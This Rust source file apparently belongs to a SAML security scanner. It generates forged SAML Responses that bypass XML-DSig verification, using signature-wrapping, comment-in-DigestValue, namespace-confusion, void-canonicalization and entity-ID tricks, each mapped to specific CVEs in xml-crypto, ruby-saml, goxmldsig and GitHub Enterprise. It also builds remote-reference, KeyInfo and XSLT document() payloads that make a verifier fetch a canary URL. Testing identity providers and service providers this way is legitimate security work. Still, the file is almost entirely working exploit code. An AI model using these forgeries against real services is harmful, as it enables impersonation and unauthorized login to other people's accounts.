//! XML-DSig internals: where verifiers read the digest or the SignedInfo from.

use crate::bytes::{
    after_name, after_start_tag, before_end_tag, child, declares_own_namespace, insert,
    qualified_name, Doc, Edits,
};
use crate::crypto::{reference_digest, seed_digest_method, signed_info};
use crate::family::token::{elements, resigned};
use crate::family::{evil_id, forged, Parts};
use crate::forge::{Forge, Forged, Skip};
use crate::identity;
use base64::Engine;
use openssl::hash::MessageDigest;
use saml_protocol::{ASSERTION_NS, DSIG11_NS, DSIG_NS, ENVELOPED, PROTOCOL_NS};

const PLACEHOLDER: &str = "FORGED_DIGEST_PLACEHOLDER";

/// The Assertion forged in place (Signature kept); `extra` adds edits; then `PLACEHOLDER`
/// becomes the digest of the forged Assertion (whose ID is then `id`).
fn with_forged_digest(
    f: &Forge,
    extra: &dyn Fn(&Parts) -> Result<Edits, Skip>,
    id: &dyn Fn(&Parts) -> String,
) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let method = seed_digest_method(sig);
    let (mut edits, swap) =
        identity::rewrite_edits(&doc, p.assertion.range(), &identity::forger(&doc));
    edits.extend(extra(&p)?);
    let xml = p.splice_unsigned_response(edits);
    let digest = reference_digest(&xml, &id(&p), method)?;
    forged(xml.replace(PLACEHOLDER, &digest), swap)
}

/// `<DigestValue><!--H(forged)-->H(original)</DigestValue>` (xml-crypto CVE-2025-29775).
pub fn comment_in_digest_value(f: &Forge) -> Result<Forged, Skip> {
    with_forged_digest(
        f,
        &|p| {
            let dv = p
                .assertion_sig
                .and_then(|s| {
                    s.descendants()
                        .find(|n| n.has_tag_name((DSIG_NS, "DigestValue")))
                })
                .ok_or_else(|| {
                    Skip::NotApplicable("the Assertion's Signature has no DigestValue".into())
                })?;
            Ok(vec![insert(
                after_start_tag(p.doc.src, dv),
                format!("<!--{PLACEHOLDER}-->"),
            )])
        },
        &|p| p.assertion_id().to_owned(),
    )
}

/// A second `ds:DigestValue` holding H(forged) earlier in document order, in StatusDetail
/// (ruby-saml CVE-2024-45409: `//ds:DigestValue` searched the whole document).
pub fn digest_value_smuggled(f: &Forge) -> Result<Forged, Skip> {
    with_forged_digest(
        f,
        &|p| {
            let status = child(p.root, PROTOCOL_NS, "Status")
                .ok_or_else(|| Skip::NotApplicable("the seed has no Status".into()))?;
            let detail = format!(
                "<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\"><ds:Reference xmlns:ds=\"{DSIG_NS}\" URI=\"#{}\"><ds:DigestValue>{PLACEHOLDER}</ds:DigestValue></ds:Reference></samlp:StatusDetail>",
                p.assertion_id()
            );
            Ok(vec![insert(before_end_tag(p.doc.src, status), detail)])
        },
        &|p| p.assertion_id().to_owned(),
    )
}

/// A second SignedInfo referencing the forged Assertion (new ID) after the original one; the
/// original Assertion kept byte-exact in a wrapper (xml-crypto CVE-2025-29774).
pub fn multiple_signed_info(f: &Forge) -> Result<Forged, Skip> {
    second_signed_info_at(f, SecondSignedInfo::After)
}

/// As [`multiple_signed_info`], the second SignedInfo inside a `ds:Object` *before* the
/// genuine one: the genuine SignedInfo stays the Signature's first SignedInfo child (its
/// value still verifies) while the forged Reference comes first in document order, where an
/// SP that trusts the first Reference reads it (@boxyhq/saml20 < 1.10.0 on xml-crypto 6.0.0
/// and its 6.0.1 fork, CVE-2025-29774).
pub fn multiple_signed_info_first(f: &Forge) -> Result<Forged, Skip> {
    second_signed_info_at(f, SecondSignedInfo::InObjectBefore)
}

/// The Assertion forged in place (its ID kept) and, in its Signature, a copy of SignedInfo
/// whose DigestValue is H(forged) *before* the genuine SignedInfo, the genuine one written as
/// its exclusive-C14N bytes (its namespace declared on it): goxmldsig < 1.1.0 moved the first
/// SignedInfo to the end, checked the signature over the new first one (the genuine) and the
/// digest of the last Reference (the forged copy's) (CVE-2020-15216, its `spoofedAsTodd` test).
pub fn signed_info_forged_first(f: &Forge) -> Result<Forged, Skip> {
    let seed = Doc::parse(f.seed)?;
    let sp = Parts::of(&seed)?;
    let seed_sig = sp.need_assertion_sig()?;
    // Which ds:Signature of the seed the Assertion's is, in document order.
    let index = seed
        .tree
        .descendants()
        .filter(|n| n.has_tag_name((DSIG_NS, "Signature")))
        .take_while(|n| n.range().start < seed_sig.range().start)
        .count();
    let genuine = crate::crypto::signed_info_c14n(f.seed, index)?;
    with_forged_digest(
        f,
        &|p| {
            let sig = p.need_assertion_sig()?;
            let si = signed_info(sig).ok_or_else(|| Skip::NotApplicable("no SignedInfo".into()))?;
            let forged = second_signed_info(p.doc, si, p.assertion_id())?;
            Ok(vec![(si.range(), format!("{forged}{genuine}"))])
        },
        &|p| p.assertion_id().to_owned(),
    )
}

/// Where the forged second SignedInfo goes.
#[derive(Clone, Copy)]
enum SecondSignedInfo {
    /// Right after the genuine one.
    After,
    /// In a `ds:Object` right before the genuine one.
    InObjectBefore,
}

/// The Assertion's ID changed, a second SignedInfo referencing it placed at `place`, the
/// original Assertion kept byte-exact in a wrapper at the end of the Response.
fn second_signed_info_at(f: &Forge, place: SecondSignedInfo) -> Result<Forged, Skip> {
    with_forged_digest(
        f,
        &|p| {
            let sig = p.need_assertion_sig()?;
            let si = signed_info(sig).ok_or_else(|| Skip::NotApplicable("no SignedInfo".into()))?;
            let evil = evil_id(p.assertion_id());
            let second = second_signed_info(p.doc, si, &evil)?;
            let placed = match place {
                SecondSignedInfo::After => insert(si.range().end, second),
                SecondSignedInfo::InObjectBefore => {
                    let prefix = qualified_name(p.doc.src, sig)
                        .strip_suffix("Signature")
                        .unwrap_or_default();
                    insert(
                        si.range().start,
                        format!("<{prefix}Object>{second}</{prefix}Object>"),
                    )
                }
            };
            let id = crate::bytes::attr_value(p.assertion, "ID")
                .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
            Ok(vec![
                (id, evil),
                placed,
                insert(
                    before_end_tag(p.doc.src, p.root),
                    format!("<a>{}</a>", p.doc.outer(p.assertion)),
                ),
            ])
        },
        &|p| evil_id(p.assertion_id()),
    )
}

/// A copy of SignedInfo whose Reference points at `#evil` (the ID the forgery carries), its
/// digest the placeholder.
fn second_signed_info(doc: &Doc, si: crate::bytes::Node, evil: &str) -> Result<String, Skip> {
    let reference = si
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
        .ok_or_else(|| Skip::NotApplicable("SignedInfo has no Reference".into()))?;
    let uri = crate::bytes::attr_value(reference, "URI")
        .ok_or_else(|| Skip::NotApplicable("the Reference has no URI".into()))?;
    let dv = reference
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "DigestValue")))
        .ok_or_else(|| Skip::NotApplicable("SignedInfo has no DigestValue".into()))?;
    let open = after_start_tag(doc.src, dv);
    let edits = vec![
        (uri, format!("#{evil}")),
        (
            open..before_end_tag(doc.src, dv).max(open),
            PLACEHOLDER.into(),
        ),
    ];
    Ok(crate::family::cut(doc.src, si.range(), edits))
}

/// A fake `ds:Signature` right after the Assertion's real one, carrying a copy of its
/// SignatureValue and a forged Subject: a verifier whose enveloped transform drops every
/// Signature inside the Assertion, or every one with the verified SignatureValue (xml-crypto
/// before node-saml/xml-crypto#585), digests the original bytes, and a reader taking the
/// first NameID below the Assertion reads the forged one (enveloped-signature over-removal).
pub fn enveloped_over_removal(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let subject = child(p.assertion, ASSERTION_NS, "Subject")
        .ok_or_else(|| Skip::NotApplicable("the Assertion has no Subject".into()))?;
    let (edits, swap) = identity::rewrite_edits(&doc, subject.range(), &identity::forger(&doc));
    if swap.forged.is_empty() {
        return Err(Skip::NotApplicable(
            "the Subject has no NameID to forge".into(),
        ));
    }
    let forged_subject = crate::family::cut(doc.src, subject.range(), edits);
    // The value's own bytes, character references and all (Santuario writes `&#13;`): the
    // decoy must compare equal to the genuine one as a verifier reads both.
    let value = child(sig, DSIG_NS, "SignatureValue")
        .map(|v| {
            &doc.src[after_start_tag(doc.src, v)
                ..before_end_tag(doc.src, v).max(after_start_tag(doc.src, v))]
        })
        .unwrap_or_default();
    let fake = format!("<ds:Signature xmlns:ds=\"{DSIG_NS}\"><ds:SignatureValue>{value}</ds:SignatureValue>{forged_subject}</ds:Signature>");
    forged(
        p.splice_unsigned_response(vec![insert(sig.range().end, fake)]),
        swap,
    )
}

/// The Assertion's only Signature moved, byte-exact, to the end of its first claim value:
/// the enveloped transform removes it wherever it sits, so it still verifies for a verifier
/// that finds it by a descendant search (passport-wsfed-saml2 3.0.5 to 3.0.9, CVE-2018-8085),
/// and that claim then reads with the signature's text in it.
pub fn signature_in_claim(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let value = p
        .assertion
        .descendants()
        .find(|n| n.has_tag_name((ASSERTION_NS, "AttributeValue")))
        .ok_or_else(|| {
            Skip::NotApplicable("the Assertion has no claim value to carry its Signature".into())
        })?;
    let edits = vec![
        (sig.range(), String::new()),
        insert(before_end_tag(doc.src, value), doc.outer(sig)),
    ];
    Ok(Forged::same_identity(p.splice_unsigned_response(edits)))
}

/// The XPath filtering transform.
pub(crate) const XPATH_TRANSFORM: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";

/// The IdP signs with an XPath filter transform after the enveloped one (here a harmless
/// filter dropping comments; XPath filters can exclude any part of the element from the
/// digest).
pub fn xpath_transform(f: &Forge) -> Result<Forged, Skip> {
    resigned(f, &|d| {
        Ok(elements(d, DSIG_NS, "Transform")
            .filter(|n| n.attribute("Algorithm") == Some(ENVELOPED))
            .map(|n| {
                let tag = qualified_name(d.src, n);
                insert(
                    n.range().end,
                    format!("<{tag} Algorithm=\"{XPATH_TRANSFORM}\"><{x}>not(self::comment())</{x}></{tag}>", x = tag.replace("Transform", "XPath")),
                )
            })
            .collect())
    })
}

/// Base64 of the digest of nothing: what a verifier that digests a failed canonicalization as
/// empty computes (`47DEQpj8…` for SHA-256).
pub(crate) fn empty_digest(method: MessageDigest) -> Result<String, Skip> {
    let hash = openssl::hash::hash(method, b"")
        .map_err(|e| Skip::Failed(format!("digest failed: {e}")))?;
    Ok(base64::engine::general_purpose::STANDARD.encode(hash))
}

/// Edits setting every DigestValue under `signature` to `value`.
fn digest_values(doc: &Doc, signature: crate::bytes::Node, value: &str) -> Edits {
    signature
        .descendants()
        .filter(|n| n.has_tag_name((DSIG_NS, "DigestValue")))
        .map(|dv| {
            let open = after_start_tag(doc.src, dv);
            (
                open..before_end_tag(doc.src, dv).max(open),
                value.to_owned(),
            )
        })
        .collect()
}

/// The Assertion forged in place, its `signature`'s DigestValues set to H(""), and a namespace
/// declaration `xmlns:{prefix}="{uri}"` libxml2 cannot canonicalize on the Assertion.
fn void_digest_forgery(
    p: &Parts,
    signature: crate::bytes::Node,
    prefix: &str,
    uri: &str,
) -> Result<(Edits, identity::Swap), Skip> {
    let doc = p.doc;
    let (mut edits, swap) =
        identity::rewrite_edits(doc, p.assertion.range(), &identity::forger(doc));
    edits.extend(digest_values(
        doc,
        signature,
        &empty_digest(seed_digest_method(signature))?,
    ));
    edits.push(insert(
        after_name(doc.src, p.assertion),
        format!(" xmlns:{prefix}=\"{uri}\""),
    ));
    Ok((edits, swap))
}

/// ruby-saml CVE-2025-25292 in SAML Raider's template shape: a DTD declares `xmlns` on
/// `Signature` twice, so libxml2 (first declaration) puts an unprefixed `Signature` in the
/// XML-DSig namespace and REXML (last declaration) does not. The genuine signature, unprefixed,
/// goes in StatusDetail: libxml2's first `ds:Signature`, whose SignedInfo verifies. The
/// Assertion is forged in place, keeps its signature with DigestValue = H(""), and carries a
/// namespace URI libxml2 cannot canonicalize: a verifier digesting the failed result as empty
/// matches REXML's DigestValue.
pub fn namespace_confusion(f: &Forge) -> Result<Forged, Skip> {
    let seed = crate::family::xsw::embeddable(f.seed);
    let doc = Doc::parse(seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let status = child(p.root, PROTOCOL_NS, "Status")
        .ok_or_else(|| Skip::NotApplicable("the seed has no Status".into()))?;
    let (mut edits, swap) = void_digest_forgery(&p, sig, "example", "http://example.com\u{80}")?;
    let moved = unprefixed_signature(&doc, sig);
    edits.push(insert(
        before_end_tag(doc.src, status),
        format!("<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\">{moved}</samlp:StatusDetail>"),
    ));
    let xml = p.splice_unsigned_response(edits);
    if Doc::parse_built(&xml).is_err() {
        return Err(Skip::NotApplicable(
            "the Signature's prefix is declared on the Assertion; copied into StatusDetail it would be unbound".into(),
        ));
    }
    let root = qualified_name(doc.src, p.root);
    forged(
        format!("<!DOCTYPE {root} [<!ATTLIST Signature xmlns CDATA #FIXED \"{DSIG_NS}\" xmlns CDATA \"block\">]>{xml}"),
        swap,
    )
}

/// ruby-saml CVE-2025-66567 ("The Fragile Lock"), no DTD needed: the genuine signature, in
/// `samlp:Extensions`, sits in a `Child` whose `xml:xmlns` attribute REXML takes for a
/// default-namespace declaration (for REXML it is no `ds:Signature`), while libxml2 keeps the
/// XML-DSig default namespace of the enclosing `Parent` (its first `ds:Signature`, whose
/// SignedInfo verifies). The Assertion is forged in place with DigestValue H("") and a relative
/// namespace URI (`xmlns:ns="1"`) libxml2 cannot canonicalize.
pub fn namespace_hiding(f: &Forge) -> Result<Forged, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let (mut edits, swap) = void_digest_forgery(&p, sig, "ns", "1")?;
    let hidden = format!(
        "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\"><Parent xmlns=\"{DSIG_NS}\"><Child xml:xmlns=\"#other\">{}</Child></Parent></samlp:Extensions>",
        unprefixed_signature(&doc, sig)
    );
    edits.push(insert(p.after_response_header(), hidden));
    let xml = p.splice_unsigned_response(edits);
    if Doc::parse_built(&xml).is_err() {
        return Err(Skip::NotApplicable(
            "the Signature's prefix is declared on the Assertion; copied into Extensions it would be unbound".into(),
        ));
    }
    forged(xml, swap)
}

/// A copy of `signature` named plain `Signature`, without its default-namespace declaration
/// (a prefix declaration, if any, stays for its children).
fn unprefixed_signature(doc: &Doc, signature: crate::bytes::Node) -> String {
    let open_end = after_start_tag(doc.src, signature);
    let name_end = after_name(doc.src, signature);
    let mut attributes = doc.src[name_end..open_end].to_owned();
    for quote in ['"', '\''] {
        let declaration = format!("xmlns={quote}{DSIG_NS}{quote}");
        if let Some(at) = attributes.find(&declaration) {
            let start = attributes[..at].trim_end().len();
            attributes.replace_range(start..at + declaration.len(), "");
        }
    }
    let inner = &doc.src[open_end..before_end_tag(doc.src, signature).max(open_end)];
    format!("<Signature{attributes}{inner}</Signature>")
}

/// A "void canonicalization" Golden SAML Response (CVE-2025-66568; CVE-2025-66578 class): the
/// Assertion carries a relative namespace URI, so libxml2 cannot canonicalize it nor the
/// SignedInfo inside it. A signer that took the failed result as empty signed "" and digested
/// "" (DigestValue H("")); that signature covers nothing, so any Assertion verifies wherever a
/// failed canonicalization comes out empty. Identity forged.
pub fn void_canonicalization(f: &Forge) -> Result<Forged, Skip> {
    let key = f.idp_key()?;
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let (mut edits, swap) = void_digest_forgery(&p, sig, "void", "relative")?;
    let method = signed_info(sig)
        .and_then(|si| child(si, DSIG_NS, "SignatureMethod"))
        .and_then(|m| m.attribute("Algorithm"))
        .unwrap_or_default();
    let value_node = child(sig, DSIG_NS, "SignatureValue")
        .ok_or_else(|| Skip::NotApplicable("the signature has no SignatureValue".into()))?;
    let mut signer = openssl::sign::Signer::new(crate::crypto::digest_method(method), &key.key)
        .map_err(|e| Skip::Failed(format!("cannot sign: {e}")))?;
    let value = signer
        .sign_oneshot_to_vec(b"")
        .map_err(|e| Skip::Failed(format!("cannot sign: {e}")))?;
    let open = after_start_tag(doc.src, value_node);
    edits.push((
        open..before_end_tag(doc.src, value_node).max(open),
        base64::engine::general_purpose::STANDARD.encode(value),
    ));
    forged(p.splice_unsigned_response(edits), swap)
}

/// GitHub Enterprise Server CVE-2025-23369 in SAML Raider's template shape: the Response's ID
/// is an entity holding the Assertion's ID, a copy of the Assertion's signature sits on the
/// Response with the untouched signed Assertion in its ds:Object (ID = `&P;` + ID), and the
/// forged Assertion (ID + `ffff`) replaces the original. In the original parse the IDs are
/// unique; in a libxml2 copy of the document the entity references vanish from attributes,
/// so the Reference resolves to the signed copy while the reader takes /Response/Assertion.
pub fn entity_defined_id(f: &Forge) -> Result<Forged, Skip> {
    let seed = crate::family::xsw::embeddable(f.seed);
    let doc = Doc::parse(seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let id = p.assertion_id();
    if !declares_own_namespace(doc.src, sig) {
        return Err(Skip::NotApplicable(
            "the Signature's namespace is declared on an ancestor; moved, it would be unbound"
                .into(),
        ));
    }
    let id_value = crate::bytes::attr_value(p.assertion, "ID")
        .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
    let signed_copy = crate::family::cut(
        doc.src,
        p.assertion.range(),
        vec![(id_value, format!("&BypassIDUniqueness;{id}"))],
    );
    let at = before_end_tag(doc.src, sig);
    let copied = format!(
        "{}<Object xmlns=\"{DSIG_NS}\">{signed_copy}</Object>{}",
        &doc.src[sig.range().start..at],
        &doc.src[at..sig.range().end]
    );
    let root_id = crate::bytes::attr_value(p.root, "ID")
        .ok_or_else(|| Skip::NotApplicable("the Response has no ID".into()))?;
    let (evil, swap) = p.forged_assertion_with_id(&format!("{id}ffff"))?;
    let xml = p.splice_unsigned_response(vec![
        (root_id, "&idViaEntity;".into()),
        insert(p.after_response_header(), copied),
        (p.assertion.range(), evil),
    ]);
    let root = qualified_name(doc.src, p.root);
    forged(
        format!("<!DOCTYPE {root} [<!ENTITY idViaEntity \"{id}\"><!ENTITY BypassIDUniqueness \"&#x50;\">]>{xml}"),
        swap,
    )
}

/// A second Reference in the Assertion's SignedInfo whose URI is on the canary (Pummel's
/// "SignedInfo remote reference"): a verifier that dereferences every Reference fetches it
/// before it finds the SignatureValue no longer matches.
pub fn remote_reference(f: &Forge) -> Result<Forged, Skip> {
    let canary = &f.canary()?.prefix;
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let reference = sig
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
        .ok_or_else(|| Skip::NotApplicable("the Assertion's Signature has no Reference".into()))?;
    let tag = qualified_name(doc.src, reference);
    let ds = tag.strip_suffix("Reference").unwrap_or_default();
    let remote = format!(
        "<{tag} URI=\"{canary}/reference\"><{ds}DigestMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#sha256\"/><{ds}DigestValue>{}</{ds}DigestValue></{tag}>",
        empty_digest(MessageDigest::sha256())?
    );
    Ok(Forged::same_identity(p.splice_unsigned_response(vec![
        insert(reference.range().end, remote),
    ])))
}

/// The Assertion's KeyInfo replaced by `content(ds prefix, canary prefix)`. KeyInfo is
/// outside SignedInfo, so the signature itself still verifies.
fn key_info_replaced(f: &Forge, content: &dyn Fn(&str, &str) -> String) -> Result<Forged, Skip> {
    let canary = &f.canary()?.prefix;
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let tag = qualified_name(doc.src, sig);
    let ds = tag.strip_suffix("Signature").unwrap_or_default();
    let key_info = format!("<{ds}KeyInfo>{}</{ds}KeyInfo>", content(ds, canary));
    let edit = match child(sig, DSIG_NS, "KeyInfo") {
        Some(old) => (old.range(), key_info),
        None => insert(before_end_tag(doc.src, sig), key_info),
    };
    Ok(Forged::same_identity(
        p.splice_unsigned_response(vec![edit]),
    ))
}

/// KeyInfo holding a RetrievalMethod on the canary: a verifier that resolves KeyInfo fetches
/// it.
pub fn retrieval_method(f: &Forge) -> Result<Forged, Skip> {
    key_info_replaced(f, &|ds, canary| {
        format!("<{ds}RetrievalMethod URI=\"{canary}/key\" Type=\"{DSIG_NS}X509Data\"/>")
    })
}

/// KeyInfo holding an XML Signature 1.1 KeyInfoReference on the canary, the shape of
/// xmltooling CVE-2023-36661 (Shibboleth SP fetched it while resolving the key).
pub fn key_info_reference(f: &Forge) -> Result<Forged, Skip> {
    key_info_replaced(f, &|_, canary| {
        format!("<dsig11:KeyInfoReference xmlns:dsig11=\"{DSIG11_NS}\" URI=\"{canary}/key-info-reference\"/>")
    })
}

/// The XSLT transform.
pub(crate) const XSLT_TRANSFORM: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";

/// An XSLT transform in the Assertion's Reference whose stylesheet reads a canary URL with
/// `document()` (SAML Raider's XSLT template; Project Zero's 2022 Java findings): a verifier
/// that runs the transforms before checking them fetches it while digesting.
pub fn xslt_transform(f: &Forge) -> Result<Forged, Skip> {
    let canary = &f.canary()?.prefix;
    let doc = Doc::parse(f.seed)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let transforms = sig
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "Transforms")))
        .ok_or_else(|| Skip::NotApplicable("the Assertion's Reference has no Transforms".into()))?;
    let tag = qualified_name(doc.src, transforms);
    let ds = tag.strip_suffix("Transforms").unwrap_or_default();
    let xslt = format!(
        "<{ds}Transform Algorithm=\"{XSLT_TRANSFORM}\"><xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('{canary}/xslt')\"/></xsl:template></xsl:stylesheet></{ds}Transform>"
    );
    Ok(Forged::same_identity(p.splice_unsigned_response(vec![
        insert(after_start_tag(doc.src, transforms), xslt),
    ])))
}
